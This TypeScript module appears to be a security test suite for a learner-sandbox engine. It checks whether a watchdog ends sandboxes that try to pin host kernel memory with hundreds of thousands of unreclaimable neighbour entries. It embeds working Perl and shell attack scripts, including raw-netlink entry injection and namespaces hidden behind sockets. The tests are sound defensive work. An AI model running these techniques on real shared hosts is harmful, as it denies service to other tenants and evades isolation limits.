import { execFileSync } from 'node:child_process';
import type { SessionEnded } from '../../sandbox-engine/src/contracts/socket-events.js';
import type { Attack, AttackContext } from './attacks.js';
import { LearnerTerminal } from './learner-terminal.js';
import { SandboxOnHost } from './sandbox-on-host.js';

/**
 * Neighbour entries the kernel never reclaims (`nud permanent`, proxy entries) skip `gc_thresh3`,
 * and neither is charged to the memory cgroup of the sandbox that adds them: root in a sandbox
 * (CAP_NET_ADMIN in its own network namespaces, which its inner daemon needs) could hold gigabytes of
 * the host's kernel memory (each entry ~400 bytes of slab; 30,000 added a second). The engine's
 * watchdog ends a sandbox holding more than SANDBOX_NEIGHBOURS_MAX.
 *
 * Each attack runs in a learner of its own (the watchdog ends its sandbox: the shared attacker must
 * live on for the attacks after it), holds its entries for HOLD_SECONDS, and is judged on the host.
 */

const HOLD_SECONDS = 40;

/** A learner who is not the suite's shared attacker, and what the host knows about its sandbox. */
async function ownAttacker(context: AttackContext) {
  const { terminal, sessionId } = await LearnerTerminal.open(context.url, context.attacker.learner.lesson);
  const session = context.engine.sessions.get(sessionId);
  if (!session) throw new Error('the attacker has no session');
  const host = await SandboxOnHost.of(context.engine, session);
  let ended: SessionEnded | undefined;
  terminal.learner.socket?.on('session:ended', (payload) => (ended = payload));
  const alive = () => context.engine.sessions.get(sessionId) !== undefined;
  /** Why the engine ended the sandbox, as the learner's page is told (waits a moment for the event); undefined while it runs. */
  const endReason = async () => {
    for (let waited = 0; !alive() && !ended && waited < 5000; waited += 100) await new Promise((resolve) => setTimeout(resolve, 100));
    return alive() ? undefined : (ended?.reason ?? 'no session:ended event');
  };
  return { terminal, host, sessionId, ended: () => ended, alive, endReason };
}

/** Lines of `ip neigh …` in the network namespace of a host process (counted outside the sandbox). */
function hostCount(pid: number, args: string[]): number {
  try {
    const text = execFileSync('nsenter', ['-t', String(pid), '-n', 'ip', 'neigh', ...args], { stdio: ['ignore', 'pipe', 'ignore'], maxBuffer: 256 * 1024 * 1024 }).toString();
    return text.split('\n').filter((line) => line.trim()).length;
  } catch {
    return 0;
  }
}

/** The host's ARP table count (one table for every namespace), from /proc/net/stat. */
function hostArpEntries(): number {
  const text = execFileSync('cat', ['/proc/net/stat/arp_cache']).toString();
  return Number.parseInt(text.split('\n')[1]?.trim().split(/\s+/)[0] ?? 'NaN', 16);
}

/** Writes batch files of `count` lines of `neigh add …` for addresses 10.64.0.0 onwards, 5,000 to a file. */
const batchFiles = (count: number, line: string) =>
  `awk 'BEGIN{for(i=0;i<${count};i++) printf "${line}\\n", 64+int(i/65536), int(i/256)%256, i%256}' | split -l 5000 - /tmp/held.`;

const secondsSince = (start: number) => ((Date.now() - start) / 1000).toFixed(1);

/**
 * Waits until the attacker's sandbox is ended or HOLD_SECONDS have passed since `started`, calling
 * `look` every `everyMs` meanwhile; resolves with the seconds after which it was ended, if it was.
 */
async function holdWhileAlive(attacker: { alive(): boolean }, started: number, { everyMs = 250, look = () => undefined as unknown } = {}): Promise<string | undefined> {
  while (Date.now() - started < HOLD_SECONDS * 1000) {
    if (!attacker.alive()) return secondsSince(started);
    look();
    await new Promise((resolve) => setTimeout(resolve, everyMs));
  }
  return undefined;
}

/** Namespaces the hiding attack makes, each with fewer entries than a sandbox may hold. */
const HIDDEN_NAMESPACES = 40;
const ENTRIES_PER_HIDDEN = 4000;

/**
 * Perl, in the sandbox: HIDDEN_NAMESPACES times a network namespace of its own (unshare), a socket
 * in it, ENTRIES_PER_HIDDEN permanent entries added there by \`ip\`; then back to the sandbox's
 * namespace. Only the sockets keep the new ones (and their entries) alive: no thread is in them, no
 * descriptor or mount names them, and each alone stays below the limit. x86-64 syscall numbers.
 */
const HIDE_PL = `use strict; use Socket; $| = 1;
open(my $home, '<', '/proc/self/ns/net') or die "home: $!";
my @sockets;
for my $i (1 .. ${HIDDEN_NAMESPACES}) {
  syscall(272, 0x40000000) == 0 or die "unshare: $!";
  socket(my $s, PF_INET, SOCK_DGRAM, 0) or die "socket: $!";
  push @sockets, $s;
  system('sh', '-c', 'ip link add dz0 type veth peer name dz1 && ip link set dz0 up && ip -batch /tmp/held.aa >/dev/null 2>&1') == 0 or die "ip";
}
syscall(308, fileno($home), 0x40000000) == 0 or die "setns: $!";
close $home;
print "HIDDEN", chr(10);
sleep 600;
`;

/**
 * Perl, in the sandbox: COUNT IPv4 neighbour entries on interface IFINDEX, STALE, flagged
 * extern_valid (NDA_FLAGS_EXT, NTF_EXT_EXT_VALIDATED: kernel 6.17+), one RTM_NEWNEIGH each over
 * rtnetlink: `ip` cannot set the flag, nor print it.
 */
const EXTERN_VALID_PL = `use strict; use Socket qw(inet_aton);
my ($ifindex, $count) = @ARGV;
socket(my $nl, 16, 3, 0) or die "socket: $!";
my ($added, $failed) = (0, 0);
for my $i (1 .. $count) {
  my $dst = inet_aton(sprintf('10.%d.%d.%d', 64 + int($i / 65536), int($i / 256) % 256, $i % 256));
  my $attrs = pack('SS', 8, 1) . $dst . pack('SS', 10, 2) . pack('C6', 2, 0, 0, 0, 0, 1) . "\\0\\0" . pack('SSL', 8, 15, 4);
  my $msg = pack('LSSLL', 28 + length($attrs), 28, 0x605, $i, 0) . pack('CCSlSCC', 2, 0, 0, $ifindex, 0x04, 0, 0) . $attrs;
  send($nl, $msg, 0, pack('SSLL', 16, 0, 0, 0)) or die "send: $!";
  recv($nl, my $ack, 65536, 0);
  (unpack('LSSLLl', $ack))[5] ? $failed++ : $added++;
}
print "ADDED $added FAILED $failed", chr(10);
`;

/**
 * An attack holding entries that show in the host's ARP count: in a learner of its own, `setup`
 * (commands joined by &&), then `add` typed into the terminal; held if the sandbox still runs after
 * HOLD_SECONDS with more than 50,000 entries above the start, blocked only by the watchdog's end.
 */
function heldArpEntriesAttack({ id, title, setup, add, cleanup }: { id: string; title: string; setup: string[]; add: string; cleanup: string }): Attack {
  return {
    id,
    title,
    async run(context) {
      const attacker = await ownAttacker(context);
      const before = hostArpEntries();
      let peak = before;
      const watch = setInterval(() => (peak = Math.max(peak, hostArpEntries())), 200);
      try {
        const prepared = await attacker.terminal.run([...setup, 'echo HELD-SETUP-OK'].join(' && '));
        if (!/HELD-SETUP-OK/.test(prepared.output)) throw new Error(`the attack could not set up: ${prepared.output.replace(/\s+/g, ' ').slice(-200)}`);
        const started = Date.now();
        attacker.terminal.learner.type(`${add}; echo HELD-$((6*7))-ADDED\r`);
        const endedAfter = await holdWhileAlive(attacker, started);
        const heldAtEnd = hostArpEntries() - before;
        // Held: the sandbox lives on at the end with the bulk of its entries (its end frees them all).
        // Blocked only by the watchdog's end (kernel-limit): a sandbox that died of anything else proves nothing.
        const reason = await attacker.endReason();
        const succeeded = reason === undefined ? heldAtEnd > 50_000 : reason !== 'kernel-limit';
        if (!succeeded && peak - before < 8192) throw new Error(`the attack did not add its entries (host table peaked ${peak - before} above ${before})`);
        return {
          succeeded,
          evidence:
            `the host's ARP table peaked ${peak - before} entries above its ${before} before; ` +
            (endedAfter ? `the attacker's sandbox was ended ${endedAfter} s in ("${reason}")` : `the attacker's sandbox still ran after ${HOLD_SECONDS} s`) +
            `; ${heldAtEnd} entries above the start held at the end`,
        };
      } finally {
        clearInterval(watch);
        if (attacker.alive()) await attacker.terminal.run(cleanup, 60_000).catch(() => undefined);
        attacker.terminal.close();
        const session = context.engine.sessions.get(attacker.sessionId);
        if (session) await context.engine.sessions.destroy(session, 'ended');
      }
    },
  };
}

export const heldNeighbourAttacks: Attack[] = [
  heldArpEntriesAttack({
    id: 'permanent-neighbours',
    title: 'hold the host kernel memory of 150,000 permanent neighbour entries in a network namespace no process is in (ip netns add)',
    // `ip -n` remounts /sys, which the sandbox may not: nsenter enters the bind-mounted namespace.
    setup: [
      'ip netns add dyhold && nsenter --net=/run/netns/dyhold sh -c "ip link add dh0 type veth peer name dh1 && ip link set dh0 up"',
      batchFiles(150_000, 'neigh add 10.%d.%d.%d lladdr 02:00:00:00:00:01 nud permanent dev dh0'),
    ],
    add: 'for f in /tmp/held.*; do nsenter --net=/run/netns/dyhold ip -batch $f >/dev/null 2>&1; done',
    cleanup: 'ip netns del dyhold; rm -f /tmp/held.*',
  }),
  heldArpEntriesAttack({
    id: 'extern-valid-neighbours',
    title: "hold 150,000 neighbour entries flagged extern_valid over raw netlink (never reclaimed; Debian 12's ip shows them as plain STALE)",
    setup: ['ip link add dv0 type veth peer name dv1', 'ip link set dv0 up', `cat > /tmp/extvalid.pl <<'PLEOF'\n${EXTERN_VALID_PL}PLEOF\ntrue`],
    add: 'perl /tmp/extvalid.pl $(cat /sys/class/net/dv0/ifindex) 150000',
    cleanup: 'ip link del dv0; rm -f /tmp/extvalid.pl',
  }),
  {
    id: 'socket-held-neighbours',
    title: `hold ${HIDDEN_NAMESPACES * ENTRIES_PER_HIDDEN} permanent neighbour entries in ${HIDDEN_NAMESPACES} network namespaces kept only by sockets, each below the limit`,
    async run(context) {
      const attacker = await ownAttacker(context);
      const before = hostArpEntries();
      let peak = before;
      const watch = setInterval(() => (peak = Math.max(peak, hostArpEntries())), 200);
      try {
        const setup = await attacker.terminal.run(
          `cat > /tmp/hide.pl <<'PLEOF'\n${HIDE_PL}PLEOF\n` +
            [batchFiles(ENTRIES_PER_HIDDEN, 'neigh add 10.%d.%d.%d lladdr 02:00:00:00:00:01 nud permanent dev dz0'), 'echo HELD-SETUP-OK'].join(' && '),
        );
        if (!/HELD-SETUP-OK/.test(setup.output)) throw new Error(`the attack could not set up: ${setup.output.replace(/\s+/g, ' ').slice(-200)}`);
        const started = Date.now();
        attacker.terminal.learner.type('nohup perl /tmp/hide.pl > /tmp/hide.log 2>&1 &\r');
        const endedAfter = await holdWhileAlive(attacker, started);
        const heldAtEnd = hostArpEntries() - before;
        const hidden = attacker.alive() ? (await attacker.terminal.run('cat /tmp/hide.log')).output : '';
        // Blocked only by the watchdog's end (kernel-limit): a sandbox that died of anything else proves nothing.
        const reason = await attacker.endReason();
        const succeeded = reason === undefined ? heldAtEnd > 50_000 : reason !== 'kernel-limit';
        // Ended past the limit needs at least two namespaces' entries at once.
        if (!succeeded && peak - before < ENTRIES_PER_HIDDEN + 100) throw new Error(`the attack did not add its entries (host table peaked ${peak - before} above ${before}) ${hidden.slice(-200)}`);
        return {
          succeeded,
          evidence:
            `the host's ARP table peaked ${peak - before} entries above its ${before} before; ` +
            (endedAfter ? `the attacker's sandbox was ended ${endedAfter} s in ("${reason}")` : `the attacker's sandbox still ran after ${HOLD_SECONDS} s (${/HIDDEN/.test(hidden) ? 'its namespace hidden behind a socket' : 'not hidden'})`) +
            `; ${heldAtEnd} entries above the start held at the end`,
        };
      } finally {
        clearInterval(watch);
        if (attacker.alive()) await attacker.terminal.run('pkill -f hide.pl; rm -f /tmp/held.* /tmp/hide.pl /tmp/hide.log', 60_000).catch(() => undefined);
        attacker.terminal.close();
        const session = context.engine.sessions.get(attacker.sessionId);
        if (session) await context.engine.sessions.destroy(session, 'ended');
      }
    },
  },
  {
    id: 'proxy-neighbours',
    title: 'hold 60,000 proxy neighbour entries (a table no counter shows, never reclaimed) in the sandbox',
    async run(context) {
      const attacker = await ownAttacker(context);
      const pid = attacker.host.pid;
      let peak = 0;
      try {
        const setup = await attacker.terminal.run(
          ['ip link add dp0 type veth peer name dp1', 'ip link set dp0 up', batchFiles(60_000, 'neigh add proxy 10.%d.%d.%d dev dp0'), 'echo HELD-SETUP-OK'].join(' && '),
        );
        if (!/HELD-SETUP-OK/.test(setup.output)) throw new Error(`the attack could not set up: ${setup.output.replace(/\s+/g, ' ').slice(-200)}`);
        const started = Date.now();
        attacker.terminal.learner.type('for f in /tmp/held.*; do ip -batch $f >/dev/null 2>&1; done; echo HELD-$((6*7))-ADDED\r');
        const endedAfter = await holdWhileAlive(attacker, started, { everyMs: 1000, look: () => (peak = Math.max(peak, hostCount(pid, ['show', 'proxy']))) });
        const heldAtEnd = attacker.alive() ? hostCount(pid, ['show', 'proxy']) : 0;
        const reason = await attacker.endReason();
        const succeeded = reason === undefined ? heldAtEnd > 20_000 : reason !== 'kernel-limit';
        if (!succeeded && peak < 5000) throw new Error(`the attack did not add its proxy entries (peak ${peak} seen from the host)`);
        return {
          succeeded,
          evidence:
            `proxy entries in the sandbox's namespace, counted from the host, peaked at ${peak}; ` +
            (endedAfter ? `the attacker's sandbox was ended ${endedAfter} s in ("${reason}")` : `the attacker's sandbox still ran after ${HOLD_SECONDS} s`) +
            `; ${heldAtEnd} held at the end`,
        };
      } finally {
        if (attacker.alive()) await attacker.terminal.run('ip link del dp0; rm -f /tmp/held.*', 60_000).catch(() => undefined);
        attacker.terminal.close();
        const session = context.engine.sessions.get(attacker.sessionId);
        if (session) await context.engine.sessions.destroy(session, 'ended');
      }
    },
  },
];
